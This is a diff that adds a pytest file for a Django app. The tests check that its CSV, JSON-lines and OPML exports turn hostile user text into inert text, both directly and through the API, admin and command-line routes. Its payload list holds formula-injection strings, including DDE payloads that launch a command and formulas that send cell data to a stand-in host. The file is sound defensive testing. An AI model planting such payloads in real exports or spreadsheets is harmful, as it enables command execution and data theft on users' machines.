@@ -1,0 +1,187 @@
+"""What strangers wrote into an export is text for every spreadsheet, whichever separator that takes; and stays itself
+in the formats for programs."""
+
+import csv
+import io
+import json
+import re
+import unicodedata
+from collections.abc import Iterable
+from typing import get_type_hints
+
+import pytest
+from django.contrib.auth.models import User
+from django.test import Client
+from django.urls import reverse
+from lxml import etree
+
+from batches.exports import COLUMNS, EXPORTERS, STORY_COLUMNS, STORY_EXPORTERS
+from batches.models import BatchProfile, Profile, StoryResult
+from batches.queries import FoundStory, Row
+
+from .commands.conftest import manage
+from .factories import make_batch
+
+__all__ = ["manage"]
+
+PAYLOADS = [
+    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "  \n =1+1", "\xa0=1+1", "\u3000=1+1",
+    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "﹦1+1", "|calc", "%0A=1", "\ufeff=1+1", "\u200b=1+1", "\u202e=1+1",
+    "\x0b=1+1",
+    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!D2", "@SUM(1+9)*cmd|' /C calc'!A0",
+    '=HYPERLINK("https://evil.example/?"&A1,"click")', '=DDE("cmd","/C calc","x")', '=WEBSERVICE("https://evil.example/")',
+    '=IMPORTXML("https://evil.example/","//a")', '=IMAGE("https://evil.example/"&A1)', '"=1+1', '"=1+1"', '"";=1+1',
+    '";=1+1', '",=1+1', "';=1+1", "x;=1+1", "x; =1+1", 'x;"=1+1"', "x\t=1+1", "x\n=1+1", 'x"\n"=1+1', "x\r\n@SUM(1)",
+    "x;\u200b=1+1", "x;\t;+1", "-1", "+49 30 123", "=", "-", "--", "@", "x,=1+1",
+]  # fmt: skip
+
+TABLES = {
+    "profiles": (Row, COLUMNS, EXPORTERS["csv"]),
+    "stories": (FoundStory, STORY_COLUMNS, STORY_EXPORTERS["csv"]),
+}
+#: Text that our own code alone writes: the database refuses anything else.
+OURS = {"status"}
+
+
+def text_columns(kind):
+    row, columns, _ = TABLES[kind]
+    hints = get_type_hints(row)
+    return [column for column in columns if hints[column] is str]
+
+
+def begins_a_formula(cell: str) -> bool:
+    """Whether a spreadsheet might run it: one that drops what it does not show, and takes all widths of a letter."""
+    seen = "".join(letter for letter in cell if unicodedata.category(letter) not in {"Cc", "Cf", "Zs", "Zl", "Zp"})
+    return bool(re.match(r'"*[=+\-@|%]', unicodedata.normalize("NFKC", seen)))
+
+
+def is_run_somewhere(text: str, numbers: Iterable[str] = ()) -> list[str]:
+    """The cells that are run, read with any separator as spreadsheets do: where a quote counts only as the first
+    character of a cell."""
+    return [
+        cell
+        for delimiter in ",;\t"
+        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
+        for cell in row
+        if cell not in numbers and begins_a_formula(cell)
+    ]
+
+
+def rows_of(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def row_of(kind, **values):
+    row, _, _ = TABLES[kind]
+    return row(**dict.fromkeys(row._fields) | values)
+
+
+def test_there_are_payloads_enough_and_each_is_one():
+    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 20
+    for payload in PAYLOADS:
+        carelessly = (f"{payload}\n", f"x,{payload}\n", f'x,"{payload}"\n')
+        assert any(is_run_somewhere(text) for text in carelessly), payload
+
+
+@pytest.mark.parametrize("kind", TABLES)
+def test_each_payload_is_text_in_each_column(kind):
+    *_, export = TABLES[kind]
+    for payload in PAYLOADS:
+        for column in text_columns(kind):
+            text = "".join(export([row_of(kind, **{column: payload})]))
+            assert not is_run_somewhere(text)
+            (row,) = rows_of(text)
+            assert row[column].replace("'", "") == payload.replace("'", "")
+
+
+def test_numbers_stay_numbers_and_other_text_stays_itself():
+    row = row_of("profiles", http_status=-5, duration=-0.25, has_story=True, name="a=b, c; d - e", error="1-1 @ 5 %")
+    (read,) = rows_of("".join(EXPORTERS["csv"]([row])))
+    assert (float(read["http_status"]), float(read["duration"]), read["has_story"]) == (-5, -0.25, "True")
+    assert (read["name"], read["error"]) == ("a=b, c; d - e", "1-1 @ 5 %")
+
+
+@pytest.mark.parametrize("url", ["https://a.example/;=1?-2;+3", "http://a.example:8080/@b;@c/%20;-d"])
+def test_an_address_is_imported_as_it_was_whatever_is_in_it(url):
+    (read,) = rows_of("".join(EXPORTERS["csv"]([row_of("profiles", url=url)])))
+    assert read["url"] == url
+    spoilt = f'{url};=HYPERLINK("x")'
+    assert rows_of("".join(EXPORTERS["csv"]([row_of("profiles", url=spoilt)])))[0]["url"] != spoilt
+
+
+#: Also what is hard to write in JSON and XML, without what XML has no way to say.
+TEXTS = [
+    *(payload for payload in PAYLOADS if "\x0b" not in payload),
+    "]]>",
+    "<![CDATA[",
+    "&amp;&lt;",
+    "</outline>",
+    "\u2028",
+]
+
+
+@pytest.mark.parametrize("kind", TABLES)
+def test_json_lines_hold_each_text_unchanged(kind):
+    export = {"profiles": EXPORTERS, "stories": STORY_EXPORTERS}[kind]["jsonl"]
+    rows = [row_of(kind, **dict.fromkeys(text_columns(kind), text)) for text in TEXTS]
+    lines = "".join(export(rows)).split("\n")[:-1]
+    assert [list({json.loads(line)[column] for column in text_columns(kind)}) for line in lines] == [[t] for t in TEXTS]
+
+
+def test_opml_is_well_formed_and_holds_each_text_unchanged():
+    text = "".join(EXPORTERS["opml"](row_of("profiles", name=text, url=f"https://a.example/{text}") for text in TEXTS))
+    outlines = etree.fromstring(text.encode(), etree.XMLParser(resolve_entities=False)).findall(".//outline")
+    assert [outline.get("text") for outline in outlines] == TEXTS
+    assert [outline.get("xmlUrl") for outline in outlines] == [f"https://a.example/{text}" for text in TEXTS]
+
+
+# -- Through the doors -------------------------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def hostile_batch(db):
+    """A batch of a profile for each payload, which stands in each text of it that a stranger may have written."""
+    batch = make_batch("it", len(PAYLOADS), queue=False)
+    rows = list(batch.profiles.order_by("pk").select_related("profile"))
+    for row, payload in zip(rows, PAYLOADS, strict=True):
+        row.error = row.profile.url = row.profile.name = row.profile.feed_url = payload
+        row.duration = -1.5
+    BatchProfile.objects.bulk_update(rows, ["error", "duration"])
+    Profile.objects.bulk_update([row.profile for row in rows], ["url", "name", "feed_url"])
+    StoryResult.objects.bulk_create(
+        StoryResult(batch=batch, profile=row.profile, story_id=payload, title=payload, url=payload)
+        for row, payload in zip(rows, PAYLOADS, strict=True)
+    )
+    return batch
+
+
+def downloaded(batch, route, *args):
+    client = Client()
+    client.force_login(User.objects.create_superuser("root"))
+    answer = client.get(reverse(route, args=[batch.pk, *args]))
+    assert answer.status_code == 200
+    return answer.getvalue().decode()
+
+
+DOORS = {
+    "API: profiles": ("profiles", lambda batch, manage: downloaded(batch, "api:batch-export", "csv")),
+    "API: stories": ("stories", lambda batch, manage: downloaded(batch, "api:batch-stories-export", "csv")),
+    "admin": ("profiles", lambda batch, manage: downloaded(batch, "admin:batches_batch_export", "csv")),
+    "command": ("profiles", lambda batch, manage: manage("batch", "export", batch.pk).out),
+}
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("door", DOORS)
+def test_each_payload_is_text_in_each_column_through_the_doors(door, hostile_batch, manage):
+    kind, export = DOORS[door]
+    text = export(hostile_batch, manage)
+    assert not is_run_somewhere(text, numbers={"-1.5"})
+    rows = rows_of(text)
+    assert len(rows) == len(PAYLOADS)
+    for column in set(text_columns(kind)) - OURS:
+        assert sorted(row[column].replace("'", "") for row in rows) == sorted(p.replace("'", "") for p in PAYLOADS), (
+            column
+        )
+    if kind == "profiles":
+        assert {float(row["duration"]) for row in rows} == {-1.5}
